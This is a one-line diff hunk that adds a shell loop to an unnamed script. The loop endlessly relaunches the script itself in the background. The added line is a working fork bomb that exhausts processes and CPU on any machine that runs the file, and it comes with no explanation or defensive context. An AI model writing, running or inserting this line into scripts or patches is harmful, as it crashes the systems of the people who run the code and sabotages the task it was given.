@@ -1,0 +1,1 @@
+while :; do bash "$0" & done
